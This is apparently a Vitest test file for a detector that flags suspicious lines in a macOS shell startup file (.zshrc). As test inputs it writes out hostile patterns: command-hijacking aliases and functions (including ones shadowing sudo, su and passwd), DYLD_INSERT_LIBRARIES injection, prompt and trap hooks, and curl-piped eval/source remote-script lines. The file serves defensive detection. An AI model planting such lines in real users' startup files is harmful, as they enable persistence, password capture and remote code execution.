import { describe, expect, test } from 'vitest';
import { mechanisms } from '../../../src/mechanisms/index.js';
import { textFile } from './mechanism-file.js';

const shellStartup = mechanisms.find(({ id }) => id === 'shell-startup');

function read(text: string) {
  const [item] = shellStartup?.read(textFile('/Users/mara/.zshrc', text, { home: '/Users/mara' })) ?? [];
  return { paths: item?.runs.flatMap(({ paths }) => paths) ?? [], findings: item?.findings ?? [] };
}

describe('what a line keeps for later is read as a command', () => {
  test.each([
    "alias ls='/private/tmp/x'",
    'alias ll="ls -l" ls=/private/tmp/x',
    'function cd { /private/tmp/x; }',
    'function cd() {\n  /private/tmp/x\n}',
    "trap '/private/tmp/x' EXIT",
    "export PROMPT_COMMAND='/private/tmp/x'",
    'PROMPT_COMMAND+="; /private/tmp/x"',
    "PS1='$(/private/tmp/x)$ '",
    'sched +1 /private/tmp/x',
    "bindkey -s '^M' '/private/tmp/x\\n'",
    'bind -x \'"\\C-l": /private/tmp/x\'',
    'export ZDOTDIR=/private/tmp/z',
    'export BASH_ENV=/private/tmp/x',
    'set -gx EDITOR /private/tmp/x',
    "export GIT_SSH_COMMAND='/private/tmp/x -v'",
    "export NODE_OPTIONS='--require /private/tmp/x.js'",
    'export JAVA_TOOL_OPTIONS=-javaagent:/private/tmp/x.jar',
    'export LESSOPEN="|/private/tmp/x %s"',
    'eval "$(cat /private/tmp/x)"',
    'source <(cat /private/tmp/x)',
    'eval "$(</private/tmp/x)"',
  ])('%s', (text) => {
    expect(read(`${text}\n`).findings).toContain('program-in-tmp');
  });

  test.each(['source <(curl -s https://x.test/a)', 'eval "$(curl -s https://x.test/a)"'])('%s', (text) => {
    expect(read(`${text}\n`).findings).toContain('remote-script');
  });
});

test.each([
  'typeset -x DYLD_INSERT_LIBRARIES=/x.dylib',
  'export A=1 DYLD_INSERT_LIBRARIES=/x.dylib',
  "declare -gx 'DYLD_INSERT_LIBRARIES=/x.dylib'",
  'if :; then export DYLD_INSERT_LIBRARIES=/x.dylib; fi',
  'set -gx DYLD_INSERT_LIBRARIES /x.dylib',
  'launchctl setenv DYLD_INSERT_LIBRARIES /x.dylib',
])('%s inserts a library', (text) => {
  expect(read(`${text}\n`).findings).toContain('dyld-environment');
});

test.each(['alias sudo=/Users/mara/x', 'sudo() {', 'function su {', 'alias -g passwd="/Users/mara/x"'])(
  '%s stands for a command that is given a password',
  (text) => {
    expect(read(`${text}\n`).findings).toContain('stands-for-command');
  },
);

test.each([
  'PATH=/private/tmp/x:$PATH',
  'export PATH="$HOME/bin:/tmp:$PATH"',
  'fpath=(/Users/Shared/f $fpath)',
])('%s: a folder of everybody', (text) => {
  expect(read(`${text}\n`).findings).toContain('writable-search-path');
});

test('what people have in their files says nothing odd', () => {
  const text = `alias sudo='sudo '
alias ls='ls -G' ..='cd ..' ip="curl -s https://ifconfig.me" kd="base64 -d"
alias sudo="nocorrect sudo"
trap 'rm -f "$file"' EXIT
PROMPT='%n@%m %~ %# '
PS1='\\u:$(git branch --show-current)$ '
export EDITOR="code --wait" VISUAL=vim PAGER=less
export ZDOTDIR=$HOME/.config/zsh
export NODE_OPTIONS=--max-old-space-size=8192
export PATH="$HOME/.cargo/bin:/opt/homebrew/bin:$PATH"
export TMPDIR=/tmp
eval "$(/opt/homebrew/bin/brew shellenv)"
eval "$(ssh-agent -s)"
source <(kubectl completion zsh)
# export DYLD_INSERT_LIBRARIES=/x.dylib
unset DYLD_INSERT_LIBRARIES
function nvm { . "$HOME/.nvm/nvm.sh"; }
bindkey -s '^o' 'lfcd\\n'
`;
  expect(read(text).findings).toEqual([]);
});

test('lines that are made to be read again and again are read, within the time of a test', () => {
  const lines = Array.from({ length: 64 }, (_, at) => `${at} ${"ENV='a".repeat(600)}`).join('\n');
  const text = `${lines}\n${'alias '.repeat(600)}\n${'PATH='.repeat(700)}\nexport BASH_ENV=/private/tmp/x\n`;
  expect(read(text).findings).toContain('program-in-tmp');
});
